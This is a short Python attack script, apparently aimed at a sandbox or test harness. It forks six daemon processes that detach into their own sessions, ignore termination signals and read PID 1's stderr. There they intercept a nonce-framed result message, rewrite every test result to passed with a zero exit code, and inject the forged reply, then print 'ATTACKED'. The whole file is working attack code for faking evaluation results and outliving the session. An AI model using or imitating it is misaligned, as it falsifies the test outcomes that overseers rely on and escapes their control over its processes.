# Leaves processes behind in sessions of their own. They take the answer's descriptor, wait for the answer, learn its word and
# answer in its place.
import json, os, re, signal


def thief(path):
    taken, bytes_ = os.open(path, os.O_RDONLY), b''
    while True:
        bytes_ += os.read(taken, 1 << 20)
        found = re.search(rb'\n([0-9a-f]{32}) (\d+)\n', bytes_)
        if not found or len(bytes_) < found.end() + int(found.group(2)) + 38:
            continue
        word, answer = found.group(1), json.loads(bytes_[found.end() : found.end() + int(found.group(2))])
        for part in answer['parts']:
            part['exitCode'] = 0
            lines = [json.loads(line) for line in part['text'].strip().split('\n')]
            part['text'] = ''.join(json.dumps({**line, 'passed': True}) + '\n' for line in lines)
        text = json.dumps({**answer, 'exitCode': 1}).encode()
        os.write(os.open(path, os.O_WRONLY), b'\n%s %d\n%s\n%s end\n' % (word, len(text), text, word))
        return


for path in ['/proc/1/fd/2'] * 6:
    if os.fork() == 0:
        os.setsid()
        for number in [signal.SIGHUP, signal.SIGTERM, signal.SIGINT]:
            signal.signal(number, signal.SIG_IGN)
        nowhere = os.open('/dev/null', os.O_RDWR)
        for own in [0, 1, 2]:
            os.dup2(nowhere, own)
        try:
            thief(path)
        finally:
            os._exit(0)
print('ATTACKED', flush=True)
